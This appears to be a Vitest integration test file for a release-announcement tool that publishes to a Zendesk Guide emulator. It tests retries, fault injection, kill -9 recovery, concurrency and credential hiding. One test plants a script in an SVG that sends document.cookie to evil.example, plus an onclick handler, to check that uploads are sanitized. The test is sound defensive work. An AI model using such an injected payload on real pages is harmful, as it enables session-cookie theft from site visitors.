import { execFileSync, spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildSampleRepo } from '../../scripts/sample-repo.mjs';
import {
  startZendeskEmulator,
  type ZendeskEmulator,
  type ZendeskEmulatorOptions,
} from '../emulators/zendesk.js';
import { cliPath, runCli } from '../helpers/cli.js';
import { startPostgres, type TestPostgres } from '../helpers/postgres.js';

/** Kill-and-rerun trials per crash point; CI runs the default, a developer can run thousands. */
const TRIALS = Number(process.env.HERALD_KILL_TRIALS ?? 12);
const TOKEN = 'zd-secret-token-4711';
const sections = [
  { id: 100, name: 'Release notes' },
  { id: 201, name: 'API reference' },
  { id: 202, name: 'Billing' },
  { id: 203, name: 'Getting started' },
  { id: 204, name: 'Guides' },
  { id: 205, name: 'Troubleshooting' },
];
const helpCenter = {
  provider: 'zendesk',
  releaseNotesSectionId: 100,
  docsSections: { api: 201, billing: 202, 'getting-started': 203, guides: 204, troubleshooting: 205 },
  permissionGroupId: 1,
  userSegmentId: null,
  requestsPerMinute: 1_000_000,
};

let dir: string;
let postgres: TestPostgres;
beforeAll(async () => {
  dir = mkdtempSync(path.join(tmpdir(), 'herald-announce-zd-'));
  postgres = await startPostgres();
});
afterAll(async () => {
  await postgres?.stop();
  rmSync(dir, { recursive: true, force: true });
});

/** A Zendesk emulator that knows Herald's credentials and the sections above, closed after `work`. */
async function withEmulator<T>(
  options: Omit<ZendeskEmulatorOptions, 'auth' | 'sections'>,
  work: (emulator: ZendeskEmulator) => Promise<T>,
): Promise<T> {
  const emulator = await startZendeskEmulator({
    auth: { email: 'bot@acme.example', token: TOKEN },
    sections,
    ...options,
  });
  try {
    return await work(emulator);
  } finally {
    await emulator.close();
  }
}

/** Changes the repository's Herald config (the working tree: prepare and announce read it from there). */
function editConfig(repo: string, edit: (herald: { helpCenter: typeof helpCenter }) => void): void {
  const file = path.join(repo, '.releaserc.json');
  const config = JSON.parse(readFileSync(file, 'utf8'));
  edit(config.herald);
  writeFileSync(file, JSON.stringify(config, null, 2));
}

let repos = 0;
/** A sample repository configured for Zendesk. */
function configuredRepo(): string {
  const repo = buildSampleRepo(path.join(dir, `repo-${++repos}`));
  editConfig(repo, (herald) => {
    herald.helpCenter = structuredClone(helpCenter);
  });
  return repo;
}

/** A sample repository configured for Zendesk, with 2.0.0 prepared and due now. */
async function dueRepo(store?: string): Promise<string> {
  const repo = configuredRepo();
  const storeArgs = store ? ['--store', store] : [];
  const prepared = await runCli(['prepare', '--release-version', '2.0.0', ...storeArgs], { cwd: repo });
  expect(prepared.code, prepared.stderr).toBe(0);
  expect((await runCli(['schedule', '2.0.0', '--now', ...storeArgs], { cwd: repo })).code).toBe(0);
  return repo;
}

const envFor = (emulator: ZendeskEmulator, token = TOKEN) => ({
  ZENDESK_URL: emulator.url,
  ZENDESK_EMAIL: 'bot@acme.example',
  ZENDESK_API_TOKEN: token,
  HERALD_ACTOR: 'zendesk-test',
});

/** What must hold after any number of runs, crashes and faults: every effect exactly once. */
async function expectPublishedOnce(emulator: ZendeskEmulator, repo: string, store?: string) {
  const storeArgs = store ? ['--store', store] : [];
  const status = JSON.parse(
    (await runCli(['status', '2.0.0', '--json', ...storeArgs], { cwd: repo })).stdout,
  );
  expect(status.status).toBe('announced');
  const live = emulator.articles().filter((a) => !a.archived);
  const byLabel = new Map<string, number>();
  for (const article of live)
    for (const label of article.label_names.filter((l) => l.startsWith('herald-')))
      byLabel.set(label, (byLabel.get(label) ?? 0) + 1);
  expect(
    [...byLabel.values()].every((n) => n === 1),
    JSON.stringify([...byLabel]),
  ).toBe(true);
  const created = status.deliveries.filter((d: { key: string }) => /^(article|draft):/.test(d.key));
  expect(live).toHaveLength(created.length);
  expect(live.filter((a) => a.label_names.includes('release-notes'))).toHaveLength(1);
  // Every article is published with its final content: no drafts, no unresolved links.
  for (const article of live) {
    for (const [locale, translation] of Object.entries(article.translations)) {
      expect(translation.draft, `${article.id} ${locale}`).toBe(false);
      expect(translation.body).not.toContain('herald:');
      expect(translation.body).not.toContain('href="#"');
    }
  }
  return { live, status };
}

describe('herald announce: Zendesk Guide (emulator)', () => {
  it('doctor checks credentials and settings read-only, and never prints the token', async () => {
    await withEmulator({}, async (emulator) => {
      const repo = await dueRepo();
      const good = await runCli(['doctor'], { cwd: repo, env: envFor(emulator) });
      expect(good.code, good.stdout + good.stderr).toBe(0);
      expect(good.stdout).toContain('Zendesk Guide at');
      const bad = await runCli(['doctor'], { cwd: repo, env: envFor(emulator, 'wrong-token-123') });
      expect(bad.code).toBe(1);
      expect(bad.stdout).toMatch(/FAIL helpcenter: credentials: Zendesk answered 401/);
      expect(bad.stdout + bad.stderr).not.toContain('wrong-token-123');
      expect(emulator.writeCount()).toBe(0);
    });
  });

  it('makes zero requests before the announce time, publishes after it, and nothing on a rerun', async () => {
    await withEmulator({}, async (emulator) => {
      const repo = configuredRepo();
      expect((await runCli(['prepare', '--release-version', '2.0.0'], { cwd: repo })).code).toBe(0);
      // An hour ahead: no loaded machine reaches it while the early run is checked.
      const later = new Date(Date.now() + 3_600_000).toISOString();
      expect((await runCli(['schedule', '2.0.0', '--at', later], { cwd: repo })).code).toBe(0);
      const early = await runCli(['announce'], { cwd: repo, env: envFor(emulator) });
      expect(early.code).toBe(0);
      expect(emulator.requests).toHaveLength(0);

      // Then due: the store's clock decides, with no window for a slow machine to miss.
      expect((await runCli(['schedule', '2.0.0', '--now'], { cwd: repo })).code).toBe(0);
      const run = await runCli(['announce', '--json'], { cwd: repo, env: envFor(emulator) });
      expect(run.code, run.stderr).toBe(0);
      const report = JSON.parse(run.stdout);
      expect(report.announced[0].releaseNotesUrl).toMatch(/\/hc\/en-us\/articles\/\d+/);
      const { live } = await expectPublishedOnce(emulator, repo);
      const notes = live.find((a) => a.label_names.includes('release-notes'))!;
      expect(notes.notify_subscribers).toBe(true);
      expect(notes.section_id).toBe(100);
      expect(
        live.filter((a) => !a.label_names.includes('release-notes')).every((a) => !a.notify_subscribers),
      ).toBe(true);
      expect(live.some((a) => Object.keys(a.translations).includes('de'))).toBe(true);
      expect(live.some((a) => a.attachments.length > 0)).toBe(true);
      const withImage = live.find((a) => a.attachments.length > 0)!;
      expect(Object.values(withImage.translations)[0]!.body).toContain(withImage.attachments[0]!.content_url);
      const linked = live.find((a) =>
        /href="http:\/\/127\.0\.0\.1:\d+\/hc\/[a-z-]+\/articles\/\d+/.test(a.body),
      );
      expect(linked).toBeDefined();

      const writes = emulator.writeCount();
      const requests = emulator.requests.length;
      const again = await runCli(['announce', '--json'], { cwd: repo, env: envFor(emulator) });
      expect(again.code).toBe(0);
      expect(emulator.writeCount()).toBe(writes);
      expect(emulator.requests.length).toBe(requests);
    });
  });

  it('fails a delivery Zendesk refuses with its reason, goes on with the others, and retries on request', async () => {
    await withEmulator({}, async (emulator) => {
      const repo = await dueRepo();
      editConfig(repo, (herald) => {
        herald.helpCenter.docsSections.billing = 999;
      });
      const run = await runCli(['announce'], { cwd: repo, env: envFor(emulator) });
      expect(run.code).toBe(1);
      expect(run.stderr).toContain('error EDELIVERY');
      expect(run.stderr).toMatch(/Zendesk answered 404/);
      expect(run.stderr).toContain('fix:');
      const status = JSON.parse((await runCli(['status', '2.0.0', '--json'], { cwd: repo })).stdout);
      expect(status.status).toBe('announcing');
      const failed = status.deliveries.filter((d: { state: string }) => d.state === 'failed');
      expect(failed.length).toBeGreaterThan(0);
      expect(status.deliveries.filter((d: { state: string }) => d.state === 'sent').length).toBeGreaterThan(
        0,
      );

      editConfig(repo, (herald) => {
        herald.helpCenter.docsSections.billing = 202;
      });
      const retry = await runCli(['retry', '2.0.0'], { cwd: repo });
      expect(retry.stdout).toContain(`${failed.length} deliver`);
      const rerun = await runCli(['announce'], { cwd: repo, env: envFor(emulator) });
      expect(rerun.code, rerun.stderr).toBe(0);
      await expectPublishedOnce(emulator, repo);
    });
  });

  it('completes with every effect once when a fifth of the answers are faults', async () => {
    await withEmulator(
      {
        faults: {
          rate: 0.2,
          kinds: [429, 500, 502, 503, 504, 'reset', 'reset-after', 'slow'],
          seed: Number(process.env.HERALD_FAULT_SEED ?? 7),
        },
      },
      async (emulator) => {
        const repo = await dueRepo();
        // As CI runs it: announce again until the release is out (a run may leave deliveries
        // waiting for a retry beyond its --wait, and says so).
        const runs: string[] = [];
        let status = '';
        for (let run = 0; run < 6 && status !== 'announced'; run++) {
          const result = await runCli(['announce', '--wait', '120'], { cwd: repo, env: envFor(emulator) });
          runs.push(`exit ${result.code}: ${result.stderr.slice(-600)}`);
          expect(result.code, runs.join('\n')).toBe(0);
          status = JSON.parse((await runCli(['status', '2.0.0', '--json'], { cwd: repo })).stdout).status;
        }
        expect(status, runs.join('\n')).toBe('announced');
        emulator.setFaults(null);
        await expectPublishedOnce(emulator, repo);
      },
    );
  }, 180_000);

  describe.each(['sqlite', 'postgres'] as const)('on %s', (dialect) => {
    const storeFor = async (repo: string) =>
      dialect === 'sqlite' ? path.join(repo, '.herald', 'state.db') : postgres.freshDatabase();

    it.each([2, 4])(
      '%i announcers at once publish every effect once',
      async (n) => {
        await withEmulator({ delayMs: 2 }, async (emulator) => {
          const store = await storeFor(path.join(dir, `concurrent-${dialect}-${n}`));
          const repo = await dueRepo(store);
          const runs = await Promise.all(
            Array.from({ length: n }, () =>
              runCli(['announce', '--store', store], {
                cwd: repo,
                env: { ...envFor(emulator), HERALD_LEASE_SECONDS: '10' },
              }),
            ),
          );
          expect(
            runs.map((r) => r.code),
            runs.map((r) => r.stderr).join('\n'),
          ).toEqual(runs.map(() => 0));
          await expectPublishedOnce(emulator, repo, store);
        });
      },
      120_000,
    );

    it('survives kill -9 at the crash points and at random times: every effect once', async () => {
      await withEmulator({}, async (emulator) => {
        const store = await storeFor(path.join(dir, `crash-${dialect}`));
        const repo = await dueRepo(store);
        const env = { ...envFor(emulator), HERALD_LEASE_SECONDS: '4' };
        let kills = 0;
        const trials: string[] = [];
        // Named points first (the n-th delivery reaching it), then kills at random moments.
        const plan = Array.from({ length: TRIALS }, (_, i) =>
          i % 4 === 3
            ? { crash: null, afterMs: 150 + Math.floor(Math.random() * 900) }
            : {
                crash: `${['fenced', 'delivered', 'settled'][i % 4]}:${1 + Math.floor(Math.random() * 6)}`,
                afterMs: null,
              },
        );
        for (const trial of plan) {
          let stderr = '';
          const outcome = await new Promise<'killed' | number>((resolve, reject) => {
            const child = spawn(process.execPath, [cliPath, 'announce', '--store', store], {
              cwd: repo,
              stdio: ['ignore', 'ignore', 'pipe'],
              env: { ...process.env, ...env, ...(trial.crash ? { HERALD_CRASH_AT: trial.crash } : {}) },
            });
            const timer =
              trial.afterMs === null ? null : setTimeout(() => child.kill('SIGKILL'), trial.afterMs);
            child.stderr!.setEncoding('utf8').on('data', (d: string) => (stderr += d));
            child.on('error', reject);
            child.on('exit', (code, signal) => {
              if (timer) clearTimeout(timer);
              resolve(signal === 'SIGKILL' ? 'killed' : (code ?? -1));
            });
          });
          if (outcome === 'killed') kills++;
          else expect(outcome, `${JSON.stringify(trial)}\n${stderr}`).toBe(0);
          trials.push(`${JSON.stringify(trial)} → ${outcome}: ${stderr.split('\n').slice(0, 3).join(' | ')}`);
        }
        expect(kills, trials.join('\n')).toBeGreaterThan(0);
        // Rows a killed run leased stay its own until the lease expires: the last run waits them out.
        const final = await runCli(['announce', '--store', store, '--wait', '60'], { cwd: repo, env });
        expect(final.code, final.stderr).toBe(0);
        await expectPublishedOnce(emulator, repo, store);
      });
    }, 600_000);
  });
});

describe('herald announce: what the real Zendesk does that node-zendesk hides', () => {
  /** Every image in every live translation downloads: none points at a deleted attachment. */
  async function expectImagesServed(emulator: ZendeskEmulator) {
    const srcs = emulator
      .articles()
      .filter((a) => !a.archived)
      .flatMap((a) => Object.values(a.translations))
      .flatMap((t) => [...t.body.matchAll(/<img[^>]*src="([^"]+)"/g)].map((m) => m[1]!));
    expect(srcs.length).toBeGreaterThan(0);
    const statuses = await Promise.all(srcs.map(async (src) => `${(await fetch(src)).status} ${src}`));
    expect(statuses.filter((s) => !s.startsWith('200'))).toEqual([]);
  }

  it("records a CDN's 502 and 504 answers as not sent, and uploads images through Guide media", async () => {
    await withEmulator({ fileUploads: false }, async (emulator) => {
      const repo = await dueRepo();
      // A translation update answered by the CDN's 502 page (not done), an article create whose
      // answer was a 504 although Zendesk made it.
      emulator.failNext(1, 502, { method: 'PUT', path: /\/translations\// });
      emulator.failNext(1, 504, { method: 'POST', path: /\/sections\/\d+\/articles/ });
      const run = await runCli(['announce'], { cwd: repo, env: envFor(emulator) });
      expect(run.code, run.stderr).toBe(0);
      expect(emulator.requests.map((r) => r.status)).toEqual(expect.arrayContaining([502, 504]));
      await expectPublishedOnce(emulator, repo);
      expect(emulator.medias().length).toBeGreaterThan(0);
      await expectImagesServed(emulator);
    });
  });

  it('uploads an SVG without the scripts and handlers a docs commit put in it', async () => {
    await withEmulator({}, async (emulator) => {
      const repo = configuredRepo();
      const svg = path.join(repo, 'docs', 'images', 'task-workflow.svg');
      writeFileSync(
        svg,
        readFileSync(svg, 'utf8').replace(
          '<title',
          '<script>fetch("https://evil.example/"+document.cookie)</script><a href="https://evil.example/"><text onclick="steal()">x</text></a><title',
        ),
      );
      execFileSync('git', ['commit', '-qam', 'docs: a drawing with a script'], { cwd: repo });
      expect((await runCli(['prepare', '--release-version', '2.0.0'], { cwd: repo })).code).toBe(0);
      expect((await runCli(['schedule', '2.0.0', '--now'], { cwd: repo })).code).toBe(0);
      const run = await runCli(['announce'], { cwd: repo, env: envFor(emulator) });
      expect(run.code, run.stderr).toBe(0);
      const svgs = emulator.medias().filter((m) => m.name.endsWith('.svg'));
      expect(svgs.map((m) => m.name).sort()).toContain('task-workflow.svg');
      for (const media of svgs) {
        const text = emulator.mediaData(media.id)!.toString('utf8');
        expect(text).toContain('<svg');
        expect(text).not.toMatch(/<script|onclick|evil\.example/i);
      }
    });
  });

  it('without labels on the plan, finds a lost create again instead of making a second article', async () => {
    await withEmulator({ labels: false }, async (emulator) => {
      const repo = await dueRepo();
      const doctor = await runCli(['doctor'], { cwd: repo, env: envFor(emulator) });
      expect(doctor.stdout).toMatch(/ok {3}helpcenter: article labels: not on this Guide plan/);
      // The first article create takes effect, but its answer is lost.
      emulator.failNext(1, 'reset-after', { method: 'POST', path: /\/sections\/\d+\/articles/ });
      const run = await runCli(['announce'], { cwd: repo, env: envFor(emulator) });
      expect(run.code, run.stderr).toBe(0);
      const status = JSON.parse((await runCli(['status', '2.0.0', '--json'], { cwd: repo })).stdout);
      expect(status.status).toBe('announced');
      const live = emulator.articles().filter((a) => !a.archived);
      expect(live.every((a) => a.label_names.length === 0)).toBe(true);
      const created = status.deliveries.filter((d: { key: string }) => /^(article|draft):/.test(d.key));
      expect(live).toHaveLength(created.length);
      const titles = live.map((a) => `${a.section_id}/${a.title}`);
      expect(new Set(titles).size).toBe(titles.length);
    });
  });

  it("doctor names the origin to configure when a brand's redirect leaves Zendesk", async () => {
    const primary = await startZendeskEmulator({
      auth: { email: 'bot@acme.example', token: TOKEN },
      sections,
    });
    try {
      await withEmulator({ redirectAccountCallsTo: primary.url }, async (brand) => {
        const repo = configuredRepo();
        const doctor = await runCli(['doctor'], { cwd: repo, env: envFor(brand) });
        expect(doctor.code).toBe(1);
        expect(doctor.stdout).toContain(`FAIL helpcenter: permission group 1: Zendesk redirected GET`);
        expect(doctor.stdout).toContain(
          `fix: If ${primary.url} is your Zendesk, set ZENDESK_URL=${primary.url}`,
        );
        expect(doctor.stdout + doctor.stderr).not.toContain(TOKEN);
        // The credentials never reached the other origin.
        expect(primary.requests).toHaveLength(0);
      });
    } finally {
      await primary.close();
    }
  });

  it('gives each translation its own images and never reuses one a later release dropped', async () => {
    await withEmulator({}, async (emulator) => {
      const repo = await dueRepo();
      expect((await runCli(['announce'], { cwd: repo, env: envFor(emulator) })).code).toBe(0);
      const overview = path.join(repo, 'docs', 'getting-started', 'overview.md');
      const original = readFileSync(overview, 'utf8');
      const release = async (version: string, text: string) => {
        writeFileSync(overview, text);
        execFileSync('git', ['commit', '-qam', `docs: overview for ${version}`], { cwd: repo });
        const prepared = await runCli(['prepare', '--release-version', version], { cwd: repo });
        expect(prepared.code, prepared.stderr).toBe(0);
        expect((await runCli(['schedule', version, '--now'], { cwd: repo })).code).toBe(0);
        const run = await runCli(['announce'], { cwd: repo, env: envFor(emulator) });
        expect(run.code, run.stderr).toBe(0);
        await expectImagesServed(emulator);
      };
      // The English page drops the logo (Zendesk deletes its inline attachment; the German
      // translation keeps its own), then takes it back (uploaded again, not the deleted one).
      await release('2.1.0', original.replace(/^!\[Acme Cloud logo\].*$/m, ''));
      await release('2.2.0', original);
    });
  }, 120_000);
});
